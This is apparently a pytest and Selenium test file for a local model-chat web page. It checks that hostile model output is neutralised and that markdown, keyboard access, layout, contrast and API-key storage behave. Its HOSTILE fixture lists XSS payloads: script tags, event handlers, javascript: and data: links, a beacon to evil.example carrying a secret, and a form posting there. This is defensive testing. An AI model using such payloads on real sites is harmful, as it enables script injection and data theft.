"""The page at / in a real browser: hostile text, keys alone, narrow and dark; the engine's panel; the API key."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from selenium.webdriver.common.keys import Keys

from edge0_runtime.engine import Engine
from edge0_runtime.server.guard import KEY_VARIABLE
from tests.runtime.browser import Page
from tests.runtime.scripted_server import END, FakeEngine, live


@pytest.fixture(scope="module")
def engine(tiny_dir: Path, budget: Callable[..., float]) -> Iterator[Engine]:
    """Experts are read in every step."""
    with Engine.load(tiny_dir, memory_budget=budget(tiny_dir, 7)) as loaded:
        yield loaded


@pytest.fixture(scope="module")
def url(engine: Engine) -> Iterator[str]:
    with live(engine) as started:
        yield started


@pytest.fixture
def answering(page: Page, engine: Engine, monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[str], None]]:
    """answering(text) -> a page on which a model has just answered so; everything but the text is the real engine's."""
    scripted = FakeEngine(context_length=10**6)
    with live(engine) as url:

        def show(text: str, width: int = 1280, fail_at: int | None = None) -> None:
            monkeypatch.setattr(engine, "tokenizer", scripted.tokenizer)
            monkeypatch.setattr(engine, "generate", scripted.generate)
            monkeypatch.setattr(engine, "context_length", scripted.context_length)
            scripted.tokens, scripted.fail_at = [*text.encode(), END], fail_at
            page.open(url, width)
            page.fill(max_tokens="100000")
            page.say("go")
            page.answered()

        yield show
        page.leave()


# -- what a model writes -----------------------------------------------------------------------------------------------

HOSTILE = """\
<script>window.ran = 1</script>

<img src="https://evil.example/a.png" onerror="window.ran = 2"><svg onload="window.ran=3"><style>*{display:none}</style>

Text <img src=x onerror=window.ran=4> and <iframe src="javascript:parent.ran=5"></iframe> <a href="javascript:ran=6">x</a>

![picture](https://evil.example/pixel.png?q=secret) ![x](javascript:window.ran=7)

[one](javascript:window.ran=8) [two](JaVaScRiPt:window.ran=9) [three](data:text/html,<script>window.ran=10</script>)
[four](vbscript:x) [five](\x01javascript:window.ran=11) [six](//evil.example) [seven](file:///etc/passwd) <javascript:ran=12>
[fine](https://example.org/?a=b&c=d) https://example.org/auto

| <script>window.ran=13</script> | b |
|---|---|
| <img src=x onerror=window.ran=14> | <br>c |

```html
<script>window.ran = 15</script>
```

`<b onclick=ran=16>` &lt;script&gt;window.ran=17&lt;/script&gt;

<form action="https://evil.example"><input name=q><button>Send</button></form><base href="https://evil.example/">
"""


def test_nothing_that_a_model_writes_runs_or_is_fetched(page: Page, answering: Callable[..., None]) -> None:
    answering(HOSTILE)
    shown = page.text(".answer .text")
    for part in (
        "<script>window.ran = 1</script>",
        "onerror=window.ran=4",
        "<iframe",
        "<style>",
        "window.ran=17</script>",
    ):
        assert part in shown
    found = page.script("return [...document.querySelectorAll('.answer .text *')].map(e => e.localName)")
    assert not set(found) & {
        "script",
        "img",
        "svg",
        "iframe",
        "style",
        "form",
        "input",
        "button",
        "base",
        "object",
        "embed",
    }
    links = page.script("return [...document.querySelectorAll('.answer .text a')].map(e => [e.href, e.rel, e.target])")
    safe = ("noopener noreferrer nofollow", "_blank")
    targets = [href for href, *how in links if tuple(how) == safe]
    assert len(targets) == len(links)
    assert set(targets) == {
        "https://evil.example/pixel.png?q=secret",  # an image is a link that somebody may follow
        "https://example.org/?a=b&c=d",
        "https://example.org/auto",
    }
    attributes = page.script(
        "return [...document.querySelectorAll('.answer .text *')].flatMap(e => e.getAttributeNames())"
    )
    assert not [name for name in attributes if name.startswith("on") or name in ("src", "style", "srcdoc")]
    for link in page.all(".answer .text span[title]"):
        link.click()
    assert page.script("return window.ran ?? null") is None


def test_an_answer_that_fails_midway_keeps_its_text_and_says_so(page: Page, answering: Callable[..., None]) -> None:
    answering("Half an answer", fail_at=4)
    assert page.text(".answer .text") == "Half"
    assert "generation failed" in page.text(".answer .problem[role=alert]")


CHOKING = {
    "quotes": "> " * 4000 + "a",
    "lists": "- " * 2000 + "a",
    "stars": "**a " * 4000,
    "nested": "*a **b " * 500 + "** c*" * 500,
    "brackets": "[" * 9000,
    "underscores": "_a" * 5000,
    "cells": "| a " * 300 + "\n" + "|-" * 300,
    "ticks": "a " + "`" * 9999 + " a",
    "long": "a " * 150_000,
}


def test_text_that_parsers_choke_on_is_shown_all_the_same(page: Page, url: str) -> None:
    page.open(url)
    render = """
        const [text, done] = arguments, node = document.createElement('div');
        document.getElementById('messages').append(node);
        import('/page/markdown.js').then(({render}) => { render(node, text); done([node.textContent, node.offsetHeight]); });"""
    for name, text in CHOKING.items():
        shown, height = page.driver.execute_async_script(render, text)
        last = text.strip("*-| \n")[-1]  # marks of a table's head are never shown
        assert last in shown and height > 0, name


def test_markdown_is_shown_as_what_it_means(page: Page, answering: Callable[..., None]) -> None:
    answering(
        "# Title\n\nSome **bold**, *slanted*, ~~gone~~ and `code`.\nNext line & &amp; 1 < 2\n\n- a\n  - b\n- [x] done\n\n"
        "3. three\n4. four\n\n> said\n\n```python\nx = 1 < 2\n```\n\n| l | r |\n|:--|--:|\n| 1 | 2 |\n\n---\n\nend"
    )
    count = "return document.querySelectorAll('.answer .text ' + arguments[0]).length"
    for selector in (
        "h3", "p strong", "p em", "p del", "p code", "p br", "ul > li > ul > li", "ul input[checked]", "ol[start='3'] > li + li",
        "blockquote p", "pre code", "table td.right", "hr",
    ):  # fmt: skip
        assert page.script(count, selector) == 1, selector
    assert page.text(".answer pre code") == "x = 1 < 2"
    assert "Next line & & 1 < 2" in page.text(".answer .text")


# -- keys, widths, colours ---------------------------------------------------------------------------------------------


def test_everything_can_be_reached_and_named_by_keys_alone(page: Page, url: str) -> None:
    page.open(url)
    page.wait(lambda: page.text("#serving"))
    assert page.focused() == "Message"
    page.press("1")
    page.shift(Keys.ENTER)
    assert page.one("#prompt").get_attribute("value") == "1\n"
    page.fill(max_tokens="4")
    page.script("document.getElementById('prompt').focus()")
    page.press(Keys.ENTER)
    page.answered()
    page.script("document.querySelector('.skip').focus()")  # the first there is
    names = [page.focused()]
    for _ in range(60):
        page.press(Keys.TAB)
        if page.script("return document.activeElement === document.body") or page.focused() == names[0]:
            break
        names.append(page.focused())
        assert page.script("return getComputedStyle(document.activeElement).outlineStyle") != "none"
    assert "" not in names
    order = [
        "Settings",
        "System prompt",
        "Temperature",
        "Conversation",
        "Edit",
        "Regenerate",
        "Message",
        "Send",
        "Engine",
    ]
    assert [name for name in names if name in order] == order
    assert any("arrow keys choose one" in name for name in names)


def test_the_maps_are_read_by_arrow_keys(page: Page, url: str, engine: Engine) -> None:
    page.open(url)
    page.fill(max_tokens="12", temperature="0")
    page.say("1+1")
    page.answered()
    page.script("document.getElementById('maps').focus()")
    page.press(Keys.ARROW_RIGHT, Keys.ARROW_RIGHT, Keys.ARROW_DOWN, Keys.ARROW_UP, Keys.ARROW_DOWN)
    layer = engine.observation.layers[1]
    assert page.text("#cell").startswith(f"Layer {layer}, expert 1: ran ")


@pytest.mark.parametrize("width", [360, 1280])
def test_nothing_is_wider_than_the_window(page: Page, answering: Callable[..., None], width: int) -> None:
    answering(
        f"{'unbroken' * 60}\n\n```\n{'x' * 400}\n```\n\n| {'a | ' * 30}\n|{'---|' * 30}\n\n[{'l' * 200}](https://e.org)",
        width,
    )
    page.fill(system="x" * 300)
    for view in ("chat", "engine"):
        page.script("document.getElementById(arguments[0]).click()", f"show-{view}")
        assert page.one(f"#{view}").is_displayed()
        page.script("document.querySelectorAll('details').forEach(d => d.open = true)")
        wide = page.script("return [document.documentElement.scrollWidth, document.body.scrollWidth]")
        assert max(wide) <= width
        over = page.script("""return [...document.querySelectorAll('main > section, #messages, #serving, table, dl')].filter(
            e => e.offsetParent && !e.closest('.scroll') && e.scrollWidth > e.clientWidth + 1).map(e => e.id || e.className)""")
        assert over == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_colours_follow_the_system_and_can_be_read(page: Page, url: str, scheme: str) -> None:
    page.open(url, scheme=scheme)
    page.fill(max_tokens="4")
    page.say("1+1")
    page.answered()
    assert (luminance(colour(page, "body", "backgroundColor")) < 0.2) == (scheme == "dark")
    for selector in (
        "body",
        ".question .text",
        ".answer .note",
        ".answer button",
        "#serving",
        "#send",
        "dt",
        "summary",
        "#state",
    ):
        front, back = (luminance(colour(page, selector, name)) for name in ("color", "backgroundColor"))
        assert (max(front, back) + 0.05) / (min(front, back) + 0.05) >= 4.5, selector


def colour(page: Page, selector: str, name: str) -> list[int]:
    """[r, g, b]; of a background the first that isn't transparent, from the element outwards."""
    source = """
        let at = document.querySelector(arguments[0]), value = getComputedStyle(at)[arguments[1]];
        while (arguments[1] === 'backgroundColor' && /, 0\\)$/.test(value)) {
            at = at.parentElement;
            value = getComputedStyle(at)[arguments[1]];
        }
        return value"""
    return [int(number) for number in re.findall(r"\d+", page.script(source, selector, name))[:3]]


def luminance(colour: list[int]) -> float:
    """As WCAG has it."""
    parts = [c / 255 / 12.92 if c <= 10 else ((c / 255 + 0.055) / 1.055) ** 2.4 for c in colour]
    return 0.2126 * parts[0] + 0.7152 * parts[1] + 0.0722 * parts[2]


# -- the engine --------------------------------------------------------------------------------------------------------


CELLS = (
    "return [...document.getElementById(arguments[0]).tBodies[0].rows].map(r => [...r.cells].map(c => c.textContent))"
)
PAINTED = """
    const canvas = document.getElementById(arguments[0]);
    const {data} = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
    return data.some((value, at) => at % 4 === 3 && value > 0)"""


def test_the_panel_shows_what_the_engine_does(page: Page, url: str, engine: Engine) -> None:
    page.open(url)
    page.wait(lambda: page.text("#state") == "ready" and engine.observation.watchers == 1)
    page.fill(max_tokens="30", temperature="0")
    before = engine.observation.seen()
    page.say("1+1")
    page.answered()
    page.wait(lambda: page.text("#state") == "ready")
    after = engine.observation.seen()
    assert after.steps == before.steps + 29
    rows = page.script(CELLS, "figures")
    assert all(row[2] != "–" for row in rows), rows
    ran_3L = (after.counts_3LE - before.counts_3LE).sum(axis=2)
    page.script("document.getElementById('layers').closest('details').open = true")
    page.driver.refresh()  # counts begin anew, and the panel comes back
    page.wait(lambda: page.text("#state") == "ready" and page.text("#serving"))
    page.script("document.getElementById('layers').closest('details').open = true")
    page.fill(max_tokens="30", temperature="0")
    page.click(".answer button")
    page.answered()
    page.wait(lambda: page.text("#layers tbody td:nth-child(3)").startswith(f"{ran_3L[0][0]} ("))
    shown = page.script(CELLS, "layers")
    assert [row[:2] for row in shown] == [["0", "own gate"], ["1", "prerouter"], ["2", "prerouter"], ["3", "own gate"]]
    assert [row[2].split(" (")[0] for row in shown] == [str(count) for count in ran_3L[0]]
    assert all(page.script(PAINTED, name) for name in ("map-ran", "map-predicted", "map-read", "steps"))
    assert "tier tiny" in page.text("#serving") and "prerouter on (layers 1..2" in page.text("#serving")
    assert re.search(r"7 of 32 fit", page.text("#plan")) and "served" in page.text("#adapters")
    assert len(page.all("#memory tbody tr")) == 4


def test_a_page_that_nobody_sees_costs_the_engine_nothing(page: Page, url: str, engine: Engine) -> None:
    page.open(url)
    page.wait(lambda: engine.observation.watchers == 1)
    page.leave()
    page.wait(lambda: engine.observation.watchers == 0)


# -- the key -----------------------------------------------------------------------------------------------------------


def test_the_key_is_asked_for_kept_in_the_tab_and_in_no_address(
    page: Page, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    page.console = ("401 (Unauthorized)",)
    monkeypatch.setenv(KEY_VARIABLE, "sesame-1")
    with live(engine) as url:
        page.open(url)
        page.wait(lambda: page.one("#key-dialog").is_displayed())
        page.press("wrong", Keys.ENTER)
        page.wait(lambda: "not the server's key" in page.text("#key-note") and page.one("#key-dialog").is_displayed())
        page.press("sesame-1", Keys.ENTER)
        page.wait(lambda: page.text("#state") == "ready")
        page.fill(max_tokens="4")
        page.say("1+1")
        assert page.answered()
        assert page.script(
            "return [localStorage.length, document.cookie, sessionStorage.getItem('edge0.api-key')]"
        ) == [0, "", "sesame-1"]
        urls = page.script("return [location.href, ...performance.getEntriesByType('resource').map(e => e.name)]")
        assert len(urls) > 5 and not [one for one in urls if "sesame" in one or "?" in one]
        page.leave()
